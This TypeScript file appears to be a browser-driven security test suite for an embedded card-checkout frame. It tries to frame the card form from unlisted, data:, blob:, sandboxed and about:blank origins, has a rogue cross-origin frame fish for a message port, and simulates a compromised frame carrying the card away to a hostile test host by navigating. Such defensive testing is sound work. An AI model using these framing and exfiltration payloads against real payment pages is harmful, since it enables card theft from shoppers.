import { BREACH, type Attack, type Learned } from '../attack.ts'
import type { AttackPages, Victim } from '../attack-pages.ts'

const TAG = (ticket: string, proxy: string): string =>
  `<tender-checkout order="${ticket}" src="${proxy}"></tender-checkout><script src="${proxy}/v1/checkout.js"></script>`

type Wrap = (inner: string, pages: AttackPages) => { readonly body: string; readonly origin: string }

const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')

/** A page on which the form must never be shown: the page that frames it is unlisted, or is above a listed one. */
const framed = (name: string, does: string, wrap: Wrap, direct = ''): Attack => ({
  name,
  does,
  async run(pages: AttackPages): Promise<Learned> {
    const { proxy } = pages.stack.addresses
    const { ticket } = await pages.ticket()
    const inner = pages.hostile.show({ body: direct ? direct.replace('PROXY', proxy) : TAG(ticket, proxy) })
    const { body, origin } = wrap(inner, pages)
    const context = await pages.browser.newContext()
    try {
      const page = await context.newPage()
      const loaded = page.waitForResponse((answer) => new URL(answer.url()).pathname === '/card').catch(() => undefined)
      await page.goto(origin + (body ? pages.hostile.show({ body }) : inner))
      await Promise.race([loaded, page.waitForTimeout(4000)])
      // A refused frame ends on an error page of the browser.
      for (let wait = 0; wait < 30 && page.frames().some((frame) => frame.url() === ''); wait += 1)
        await page.waitForTimeout(100)
      await page.waitForTimeout(200)
      const shown = await Promise.all(
        page
          .frames()
          .map((frame) =>
            frame.url().startsWith(proxy)
              ? frame.evaluate(() => document.forms.length + Number(document.scripts.length > 0)).catch(() => 0)
              : 0,
          ),
      )
      const urls = page.frames().map((frame) => frame.url())
      return shown.some(Boolean) ? [`${BREACH}the form shows`, ...urls] : urls
    } finally {
      await context.close()
    }
  },
})

const FRAME = '<iframe src="PROXY/card"></iframe>'

/** An empty document has the origin of the page that created it, and no address. */
const inEmptyDocument = (of: 'unlisted' | 'listed', name: string): Attack =>
  framed(name, 'an about:blank document frames the card document', (_, { hostile, stack }) => ({
    body: `<script>document.body.append(document.createElement('iframe')); frames[0].document.body.innerHTML = ${JSON.stringify(FRAME.replace('PROXY', stack.addresses.proxy))}</script>`,
    origin: hostile[of],
  }))

/** The control: a shop may create one. */
export const shopsEmptyDocument = inEmptyDocument('listed', 'about:blank of the shop')

export const framings: readonly Attack[] = [
  framed('unlisted page', 'a page that is no shop shows the checkout', (_, { hostile }) => ({
    body: '',
    origin: hostile.unlisted,
  })),
  framed(
    'unlisted frame',
    'a page that is no shop frames the card document',
    (_, { hostile }) => ({ body: '', origin: hostile.unlisted }),
    FRAME,
  ),
  framed('shop inside a stranger', 'a stranger frames the shop’s page with the checkout', (inner, { hostile }) => ({
    body: `<iframe src="${hostile.listed}${inner}" style="width:600px;height:600px"></iframe>`,
    origin: hostile.unlisted,
  })),
  framed('data: parent', 'a data: document frames the card document', (_, { hostile, stack }) => ({
    body: `<iframe src="data:text/html,${encodeURIComponent(FRAME.replace('PROXY', stack.addresses.proxy))}"></iframe>`,
    origin: hostile.listed,
  })),
  framed('parent of no origin', 'a sandboxed document frames the card document', (_, { hostile, stack }) => ({
    body: `<iframe sandbox="allow-scripts" srcdoc="${quoted(FRAME.replace('PROXY', stack.addresses.proxy))}"></iframe>`,
    origin: hostile.listed,
  })),
  inEmptyDocument('unlisted', 'about:blank of a stranger'),
  framed('blob: of a stranger', 'a blob: document of a stranger frames the card document', (_, { hostile, stack }) => ({
    body: `<script>const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob([${JSON.stringify(FRAME.replace('PROXY', stack.addresses.proxy))}], { type: 'text/html' })); document.body.append(frame)</script>`,
    origin: hostile.unlisted,
  })),
]

/** Reads what another site's frame, inside the shop's page, has received. */
export const rogues: readonly Attack[] = [
  {
    name: 'greeting from a stranger’s frame',
    does: 'a frame of another origin greets the checkout, and hopes for a port',
    async run(pages, victim: Victim) {
      const rogue = pages.hostile.show({
        body: '',
        script: `globalThis.ports = []; addEventListener('message', ({ ports }) => globalThis.ports.push(...ports)); setInterval(() => parent.postMessage({ tender: 'tender:hello', nonce: 'stranger' }, '*'), 20)`,
      })
      const arrived = victim.page.waitForEvent('framenavigated', (one) => one.url().endsWith(rogue))
      await victim.page.evaluate((src) => {
        document.body.append(Object.assign(document.createElement('iframe'), { src }))
        for (const nonce of ['own', null, {}, 1]) window.postMessage({ tender: 'tender:hello', nonce }, '*')
      }, pages.hostile.unlisted + rogue)
      const frame = await arrived
      await victim.page.waitForTimeout(500)
      const ports = await frame.evaluate('globalThis.ports.length')
      return ports ? [`${BREACH}a stranger was handed a port`] : []
    },
  },
]

/** Has the frame itself, as if its script were compromised, send the card in an address; returns whether it arrived. */
export async function takesAway(pages: AttackPages, isGuarded: boolean): Promise<boolean> {
  const { proxy } = pages.stack.addresses
  const rule = `<meta http-equiv="content-security-policy" content="frame-src ${proxy}">`
  const victim = await pages.enter({ script: isGuarded ? `document.write(${JSON.stringify(rule)})` : '' })
  const path = `/carried-${isGuarded ? 'guarded' : 'open'}`
  const frame = victim.page.frames().find((one) => /\/card(?:\?|$)/.test(one.url()))!
  const led = victim.page.waitForEvent('framenavigated', (one) => one === frame)
  await frame.evaluate((to) => void location.assign(to), pages.hostile.unlisted + path)
  await led
  await victim.context.close()
  return pages.hostile.received.some((line) => line.includes(path))
}

/** The only exit that the frame's own policy leaves open, and the shop's policy closes. */
export const selfNavigation: Attack = {
  name: 'frame leads itself away',
  does: 'a frame gone bad carries the card away in an address, past a shop whose policy has frame-src',
  run: async (pages) => ((await takesAway(pages, true)) ? [`${BREACH}the frame went where frame-src forbids`] : []),
}
